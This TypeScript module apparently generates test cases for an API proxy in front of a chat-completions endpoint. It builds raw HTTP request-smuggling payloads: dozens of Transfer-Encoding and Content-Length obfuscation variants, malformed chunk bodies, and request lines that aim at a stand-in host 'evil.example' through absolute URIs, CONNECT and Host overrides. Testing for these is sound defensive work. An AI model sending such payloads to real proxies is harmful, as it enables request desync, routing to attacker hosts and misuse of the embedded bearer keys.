/** Requests that two parsers could cut at different places: one after which the proxy makes any call upstream is one too many. */

/** What an attacker wants to reach the upstream as a request of its own. */
export const smuggled = (port: number, key: string) => {
  const body = '{"model":"m-chat","messages":[{"role":"user","content":"smuggled"}]}';
  const head = ['POST /v1/chat/completions HTTP/1.1', `Host: 127.0.0.1:${port}`, `Authorization: Bearer ${key}`];
  const lines = [...head, 'Content-Type: application/json', `Content-Length: ${body.length}`];
  return `${lines.join('\r\n')}\r\n\r\n${body}`;
};

/** Spellings of a chunked coding that some parser takes for one, and another does not. */
const codings = [
  'Transfer-Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  ' Transfer-Encoding: chunked',
  'X: y\r\n\tTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'Transfer-Encoding\r\n: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunkedx',
  'Transfer-Encoding: chunk',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;q=1',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: identity',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\x0bchunked',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: chunked\x00',
  'Transfer-Encoding: \x00chunked',
  'Transfer-Encoding: chun\x85ked',
  'Transfer_Encoding: chunked',
  'Transfer-Encoding\xa0: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  'TE: chunked',
  'Connection: transfer-encoding\r\nTransfer-Encoding: chunked',
];

/** `N` is the length of all that follows the head. */
const lengths = [
  'Content-Length: N',
  'content-length: N',
  'Content-Length: N ',
  'Content-Length:\tN',
  'Content-Length : N',
  ' Content-Length: N',
  'Content-Length: +N',
  'Content-Length: -N',
  'Content-Length: N, N',
  'Content-Length: 0, N',
  'Content-Length: N\r\nContent-Length: N',
  'Content-Length: 0\r\nContent-Length: N',
  'Content-Length: N\r\nContent-Length: 0',
  'Content-Length: 0xN',
  'Content-Length: N.0',
  'Content-Length: Ne0',
  'Content-Length: "N"',
  'Content-Length: \x0bN',
  'Content-Length: N\x00',
  'Content-Length: 99999999999999999999N',
  'Content-Length:\r\n N',
  'Content_Length: N',
  'X: y\nContent-Length: N',
  'X: y\rContent-Length: N',
];

/** Bodies that say they are chunked; `I` is the smuggled request, and none of them is sound before it. */
const chunks = [
  '3\nabc\r\n0\r\n\r\nI',
  '3\rabc\r\n0\r\n\r\nI',
  '3;a\nbc\r\n0\r\n\r\nI',
  '3;\nabc\r\n0\r\n\r\nI',
  '3;a="\n"\r\nabc\r\n0\r\n\r\nI',
  '3;a=\x00\r\nabc\r\n0\r\n\r\nI',
  '0x3\r\nabc\r\n0\r\n\r\nI',
  '+3\r\nabc\r\n0\r\n\r\nI',
  '-3\r\nabc\r\n0\r\n\r\nI',
  ' 3\r\nabc\r\n0\r\n\r\nI',
  '3 \r\nabc\r\n0\r\n\r\nI',
  '3\t\r\nabc\r\n0\r\n\r\nI',
  '3_\r\nabc\r\n0\r\n\r\nI',
  '3\r\nabc0\r\n\r\nI',
  '3\r\nabcX\r\n0\r\n\r\nI',
  '3\r\nabc\n0\r\n\r\nI',
  '3\r\nabc\r0\r\n\r\nI',
  '\r\n3\r\nabc\r\n0\r\n\r\nI',
  'fffffffffffffffd\r\nabc\r\n0\r\n\r\nI',
  '10000000000000003\r\nabc\r\n0\r\n\r\nI',
  '0\r\nI',
  '0\n\nI',
  '0\r\n\nI',
  '0\r\nContent-Length : 9\r\n\r\nI',
  '0\r\n Folded: x\r\n\r\nI',
];

/** Targets and heads that name another place, or another protocol; `P` is the path. */
const heads = [
  'POST http://evil.example:80P HTTP/1.1',
  'POST http://127.0.0.1@evil.exampleP HTTP/1.1',
  'POST //evil.exampleP HTTP/1.1',
  'POST \\evil.exampleP HTTP/1.1',
  'POST evil.example:443 HTTP/1.1',
  'CONNECT evil.example:443 HTTP/1.1',
  'POST P?a b HTTP/1.1',
  'POST P\tHTTP/1.1 HTTP/1.1',
  'POST P HTTP/1.1 HTTP/1.1',
  'POST P HTTP/1.2',
  'POST P HTTP/2.0',
  'POST P HTTP/3',
  'POST P http/1.1',
  'POST P HTTP/1.1\x00',
  'POST P\x00 HTTP/1.1',
  'post P HTTP/1.1',
  'POST P HTTP/1.1\r\n:method: POST\r\n:path: /v1/models',
  'POST P HTTP/1.1\r\n:authority: evil.example',
  'POST P HTTP/1.1\r\nHost: evil.example',
  'POST P HTTP/1.1\r\nX: y\r\n\r\n',
  'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
];

export interface SmugglingCase {
  readonly title: string;
  readonly bytes: string;
}

/** Every case for one route. `key` opens the door: what is refused is refused for its form. */
export function smugglingCases(path: string, port: number, key: string): readonly SmugglingCase[] {
  const inner = smuggled(port, key);
  const own = `Host: 127.0.0.1:${port}\r\nAuthorization: Bearer ${key}\r\nContent-Type: application/json\r\n`;
  const start = `POST ${path} HTTP/1.1\r\n${own}`;
  const ended = `0\r\n\r\n${inner}`;
  const lengthOf = (line: string) => line.replaceAll('N', String(ended.length));
  // A length by another name is none: with a sound coding, what follows is a second request, and honestly so.
  const known = lengths.filter((length) => !length.startsWith('Content_'));
  const both = codings.flatMap((coding) =>
    known.flatMap((length) => [
      [coding, lengthOf(length)],
      [lengthOf(length), coding],
    ]),
  );
  return [
    ...both.map((lines) => ({ title: lines.join(' | '), bytes: `${start}${lines.join('\r\n')}\r\n\r\n${ended}` })),
    ...lengths.map((line) => ({ title: line, bytes: `${start}${lengthOf(line)}\r\n\r\n${ended}` })),
    ...chunks.map((body) => ({
      title: JSON.stringify(body),
      bytes: `${start}Transfer-Encoding: chunked\r\n\r\n${body.replace('I', inner)}`,
    })),
    ...heads.map((head) => ({
      title: head,
      bytes: `${head.replaceAll('P HTTP', `${path} HTTP`).replace('exampleP', `example${path}`)}\r\n${own}Content-Length: ${ended.length}\r\n\r\n${ended}`,
    })),
    // The names of those who parse lines by their feed alone.
    ...[start, start.replaceAll('\r\n', '\n'), start.replaceAll('\r\n', '\r')].map((head) => ({
      title: `lines end ${JSON.stringify(head.slice(-2))}`,
      bytes: `${head}Content-Length: ${ended.length}\n\n${ended}`,
    })),
    ...['websocket', 'h2c', 'TLS/1.0'].map((upgrade) => ({
      title: `an upgrade to ${upgrade} with a body`,
      bytes: `${start}Connection: Upgrade\r\nUpgrade: ${upgrade}\r\nContent-Length: ${ended.length}\r\n\r\n${ended}`,
    })),
  ];
}
